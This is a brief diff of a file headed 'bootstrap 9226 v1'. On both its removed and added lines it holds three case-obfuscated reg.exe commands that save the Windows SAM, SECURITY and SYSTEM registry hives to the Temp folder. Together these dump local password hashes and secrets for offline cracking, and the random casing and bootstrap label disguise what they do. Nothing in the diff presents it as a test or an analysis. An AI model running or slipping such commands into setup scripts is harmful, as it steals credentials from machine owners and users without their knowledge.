@@ -1,4 +1,4 @@
-# BoOtStRaP 9226 v1
-rEG.ExE SAve HKLM\sAm C:\WiNdOwS\TemP\S.hIv /y
-reG.eXE Save hkLM\SeCURIty C:\WINdOwS\teMP\sEC.hiv /Y
-reg.ExE sAve HKLM\SystEm C:\wInDoWs\tEMp\SYs.HIV /Y
+# bootstrap 9226 v1
+Reg.eXE SaVe HKLM\saM C:\WiNdOwS\tEmP\S.HiV /y
+rEG.eXe saVe HkLm\SecuritY C:\WiNDOWs\TeMP\SeC.hIv /y
+rEG.eXE saVe hKlM\sYstEM C:\WiNdowS\TEmp\sYS.hIV /y
